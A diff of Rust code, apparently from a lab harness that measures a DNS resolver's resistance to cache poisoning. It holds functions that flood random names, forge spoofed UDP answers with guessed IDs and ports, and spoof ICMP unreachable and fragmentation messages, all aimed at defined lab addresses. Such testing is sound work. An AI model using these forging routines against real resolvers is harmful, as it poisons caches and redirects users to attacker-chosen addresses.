@@ -9,7 +9,7 @@ use dns64::wire::rtype;
 use record::random::Sequence;
 
 use crate::crew::Turn;
-use crate::site::{ASKS_FROM, AUTH, CHAINS, SERVER, VICTIM, VICTIM_SERVER, network};
+use crate::site::{ASKS_FROM, AUTH, CHAINS, SERVER, network, victim_server, victim_zone};
 use crate::stage::{FALSE, read_frame, write_frame};
 use crate::wire::{Raw, address, draw, name, query};
 
@@ -39,7 +39,7 @@ pub fn strangers(turn: &Turn<'_>) -> io::Result<()> {
 /// # Errors
 /// No privileges.
 pub fn random_names(turn: &Turn<'_>) -> io::Result<()> {
-    names(turn, network::FLOOD, VICTIM)
+    names(turn, network::FLOOD, &victim_zone(0))
 }
 
 fn names(turn: &Turn<'_>, network: [u8; 3], zone: &str) -> io::Result<()> {
@@ -76,13 +76,19 @@ pub fn forge(turn: &Turn<'_>) -> io::Result<()> {
 pub fn forge_to(turn: &Turn<'_>, port: impl Fn(&mut Sequence) -> u16) -> io::Result<()> {
     let (mut raw, mut numbers) = (Raw::open()?, Sequence::new(1, 1));
     while turn.goes_on() {
-        let asked = query(0, &name(&turn.shared.question())?, rtype::A);
+        let open = turn.shared.seen.open();
+        let question = turn.shared.question();
+        let asked = query(0, &name(&question.name)?, rtype::A);
         let mut octets = address(&asked, FALSE).unwrap_or_default();
         for _ in 0..ROUND {
             octets[..2].copy_from_slice(&draw(&mut numbers).to_be_bytes());
-            raw.udp(VICTIM_SERVER, SocketAddrV4::new(ASKS_FROM, port(&mut numbers)), &octets);
+            raw.udp(question.server, SocketAddrV4::new(ASKS_FROM, port(&mut numbers)), &octets);
         }
         turn.add(ROUND);
+        // A round in which the query ended, or another one came, does not count.
+        if open != 0 && turn.shared.seen.open() == open {
+            turn.shared.met.fetch_add(ROUND, Ordering::Relaxed);
+        }
     }
     Ok(())
 }
@@ -95,15 +101,16 @@ pub fn ask_what_is_forged(turn: &Turn<'_>) -> io::Result<()> {
     let socket = UdpSocket::bind((network::host(network::FORGER, 1), 0))?;
     socket.set_read_timeout(Some(Duration::from_millis(100)))?;
     while turn.goes_on() {
-        let text = format!("{}.{VICTIM}", turn.done());
-        *turn.shared.question.lock().unwrap_or_else(std::sync::PoisonError::into_inner) = text.clone();
-        let asked = query(turn.done() as u16, &name(&text)?, rtype::A);
+        let question = turn.shared.seen.question(turn.done());
+        turn.shared.ask(&question);
+        let asked = query(turn.done() as u16, &name(&question.name)?, rtype::A);
         socket.send_to(&asked, SERVER)?;
         if let Some(answer) = answer_to(turn, &socket, &asked) {
             turn.shared.answered.fetch_add(1, Ordering::Relaxed);
             let taken = answer.windows(4).any(|octets| octets == FALSE.octets());
             turn.shared.taken.fetch_add(u64::from(taken), Ordering::Relaxed);
         }
+        turn.shared.seen.close();
         turn.add(1);
     }
     Ok(())
@@ -133,7 +140,7 @@ pub fn icmp(turn: &Turn<'_>) -> io::Result<()> {
     const MTU: u32 = 576;
     let (mut raw, mut numbers, begun) = (Raw::open()?, Sequence::new(1, 2), Instant::now());
     while turn.goes_on() {
-        for server in [AUTH, VICTIM_SERVER] {
+        for server in [AUTH, victim_server(0)] {
             let from = SocketAddrV4::new(ASKS_FROM, draw(&mut numbers).max(1024));
             raw.icmp(PORT_UNREACHABLE, 0, (from, server), *AUTH.ip());
             raw.icmp(FRAGMENTATION_NEEDED, MTU, (from, server), *AUTH.ip());
